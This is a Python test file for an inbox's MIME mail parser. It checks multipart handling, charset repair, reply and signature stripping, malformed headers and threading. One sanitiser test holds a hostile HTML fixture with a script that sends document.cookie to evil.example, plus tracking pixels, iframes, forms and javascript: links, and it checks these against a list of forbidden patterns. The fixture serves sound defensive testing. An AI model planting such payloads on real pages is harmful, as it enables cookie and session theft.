"""Parsing real-world MIME: what the inbox shows and triage reads."""

from __future__ import annotations

import base64
import quopri

from inbox.mail.mime import parse_mail
from inbox.mail.threading import base_subject, has_reply_prefix, parse_id_list, reply_subject
from tests.mail.mails import voter_mail

HEAD = (
    b"From: Griet <griet@voter.example>\r\nTo: office@example.test\r\n"
    b"Subject: test\r\nMessage-ID: <p1@voter.example>\r\n"
)


def test_nested_multiparts_give_text_html_and_attachments() -> None:
    raw = HEAD + (
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="outer"\r\n\r\n'
        b'--outer\r\nContent-Type: multipart/related; boundary="rel"\r\n\r\n'
        b'--rel\r\nContent-Type: multipart/alternative; boundary="alt"\r\n\r\n'
        b"--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nDe brug is kapot.\r\n"
        b"--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        b'<p>De <b>brug</b> is kapot.</p><img src="cid:foto1">\r\n'
        b"--alt--\r\n"
        b"--rel\r\nContent-Type: image/png\r\nContent-ID: <foto1>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(b"\x89PNG fake image")
        + b"\r\n--rel--\r\n"
        b'--outer\r\nContent-Type: application/pdf; name="brief.pdf"\r\n'
        b'Content-Disposition: attachment; filename="brief.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64.b64encode(b"%PDF-1.4 letter")
        + b"\r\n--outer--\r\n"
    )
    mail = parse_mail(raw)
    assert mail.new_text == "De brug is kapot."
    assert mail.html == "<p>De <b>brug</b> is kapot.</p>"
    assert [(a.filename, a.content_type, a.size, a.inline) for a in mail.attachments] == [
        ("attachment-1.png", "image/png", 15, True),
        ("brief.pdf", "application/pdf", 15, False),
    ]
    assert mail.attachments[0].content_id == "foto1"


def test_wrongly_declared_charsets_are_read_correctly() -> None:
    utf8_declared_latin1 = HEAD + b"Content-Type: text/plain; charset=iso-8859-1\r\n\r\n" + "Crèche à Liège".encode()
    latin1_declared_utf8 = HEAD + b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + "Crèche à Liège".encode("cp1252")
    unknown_charset = HEAD + b"Content-Type: text/plain; charset=x-made-up\r\n\r\n" + "Grüße".encode()
    assert parse_mail(utf8_declared_latin1).new_text == "Crèche à Liège"
    assert parse_mail(latin1_declared_utf8).new_text == "Crèche à Liège"
    assert parse_mail(unknown_charset).new_text == "Grüße"


def test_quoted_printable_and_base64_bodies() -> None:
    text = "Prijs: 12 € voor één ticket — te veel!"
    qp = HEAD + (
        b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        + quopri.encodestring(text.encode())
    )
    b64 = HEAD + (
        b"Content-Type: text/plain; charset=windows-1252\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(text.encode("cp1252"))
    )
    assert parse_mail(qp).new_text == text
    assert parse_mail(b64).new_text == text


def test_html_only_mail_is_sanitised_and_made_readable() -> None:
    hostile = (
        "<html><head><style>body{background:url(https://evil.example/css)}</style>"
        "<script>document.location='https://evil.example/?'+document.cookie</script></head>"
        '<body onload="steal()"><p style="position:fixed;top:0">Beste Els,</p>'
        "<p>Onze straat <b>overstroomt</b> bij elke regenbui.</p>"
        '<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1">'
        '<a href="javascript:alert(1)">klik</a> <a href="https://stad.example/dossier">dossier</a>'
        '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=x></form>'
        "<svg><script>alert(2)</script></svg></body></html>"
    )
    mail = parse_mail(voter_mail(text=None, html=hostile).as_bytes())
    lowered = mail.html.lower()
    for forbidden in (
        "<script",
        "style",
        "onload",
        "tracker.example",
        "javascript:",
        "<iframe",
        "<form",
        "<img",
        "<svg",
    ):
        assert forbidden not in lowered, forbidden
    assert '<a href="https://stad.example/dossier" rel="noopener noreferrer nofollow">dossier</a>' in mail.html
    assert [line for line in mail.new_text.splitlines() if line][:2] == [
        "Beste Els,",
        "Onze straat overstroomt bij elke regenbui.",
    ]
    assert "document.cookie" not in mail.full_text


def test_quoted_reply_and_signature_are_cut_for_triage_but_kept_in_full() -> None:
    body = (
        "Bedankt, maar dat beantwoordt mijn vraag niet.\n\n-- \nWout Claes\nGent\n\n"
        "Op di 24 nov. 2026 om 10:12 schreef Bureau Els Vermeulen <office@example.test>:\n"
        "> Beste Wout, we bekijken het.\n"
    )
    mail = parse_mail(voter_mail(text=body).as_bytes())
    assert mail.new_text == "Bedankt, maar dat beantwoordt mijn vraag niet."
    assert "> Beste Wout, we bekijken het." in mail.full_text

    outlook = (
        "Merci pour votre réponse.\n\nDe : Bureau <office@example.test>\n"
        "Envoyé : mardi\nÀ : Julien\nObjet : Loyers\n\nBonjour"
    )
    assert parse_mail(voter_mail(text=outlook).as_bytes()).new_text == "Merci pour votre réponse."


def test_malformed_headers_and_encodings_do_not_break_parsing() -> None:
    raw = (
        "From: =?utf-8?B?broken base64?= Zoë <zoe@voter.example\r\n"
        "Subject: =?x-unknown?Q?caf=E9?= =?utf-8?q?na=C3=AFef?= \udcff\r\n"
        "Date: 31 Feb 2026 99:99\r\nMessage-ID: no-brackets@voter.example\r\n"
        "References: <a@x> garbage <b@x>\r\nContent-Type: multipart/mixed; boundary=\r\n\r\n"
        "Hallo zonder boundary\r\n"
    ).encode("utf-8", "surrogateescape")
    mail = parse_mail(raw)
    assert mail.message_id == "no-brackets@voter.example"
    assert mail.references == ["a@x", "b@x"]
    assert mail.from_address == "zoe@voter.example"
    assert "naïef" in mail.subject
    assert "Hallo zonder boundary" in mail.full_text


def test_mail_without_message_id_gets_a_stable_id() -> None:
    raw = b"From: a@voter.example\r\nSubject: x\r\n\r\nbody\r\n"
    assert parse_mail(raw).message_id == parse_mail(raw).message_id
    assert parse_mail(raw).message_id.startswith("sha256:")


def test_subject_prefixes_in_many_languages() -> None:
    for subject in ("Re: Fietspad", "Antw: Fietspad", "Réf. : Fietspad", "AW: Fietspad", "TR: Fwd: RE[2]: Fietspad"):
        assert base_subject(subject) == "fietspad", subject
        assert has_reply_prefix(subject)
    assert not has_reply_prefix("Fietspad: wanneer?")
    assert reply_subject("AW: Antw: Fietspad") == "Re: Fietspad"
    assert parse_id_list("<a@x>,<b@x>") == ["a@x", "b@x"]


def test_html_only_replies_from_gmail_and_outlook_keep_only_the_new_part_for_triage() -> None:
    gmail = (
        '<div dir="ltr">Merci, et pour Namur ?</div><br><div class="gmail_quote"><div class="gmail_attr">'
        "Le mar. 24 nov. 2026 à 10:12, Bureau &lt;office@example.test&gt; a écrit :<br></div>"
        "<blockquote>Madame, nous étudions le dossier.</blockquote></div>"
    )
    outlook = (
        "<div>Danke für die schnelle Antwort.</div><hr>"
        '<div id="divRplyFwdMsg"><b>Von:</b> Büro &lt;office@example.test&gt;<br><b>Gesendet:</b> Dienstag<br>'
        "<b>An:</b> Lukas<br><b>Betreff:</b> Zweisprachigkeit</div><div>Sehr geehrter Herr Schmitz</div>"
    )
    gmail_mail = parse_mail(voter_mail(text=None, html=gmail).as_bytes())
    assert gmail_mail.new_text == "Merci, et pour Namur ?"
    assert "> Madame, nous étudions le dossier." in gmail_mail.full_text
    assert parse_mail(voter_mail(text=None, html=outlook).as_bytes()).new_text == "Danke für die schnelle Antwort."


def test_an_endless_references_header_keeps_the_root_and_the_latest() -> None:
    ids = [f"<m{i}@voter.example>" for i in range(5000)]
    mail = parse_mail(HEAD + b"References: " + "\r\n ".join(ids).encode() + b"\r\n\r\nHallo\r\n")
    assert len(mail.references) == 100
    assert mail.references[0] == "m0@voter.example"
    assert mail.references[-1] == "m4999@voter.example"
    assert mail.thread_candidates()[0] == "m4999@voter.example"
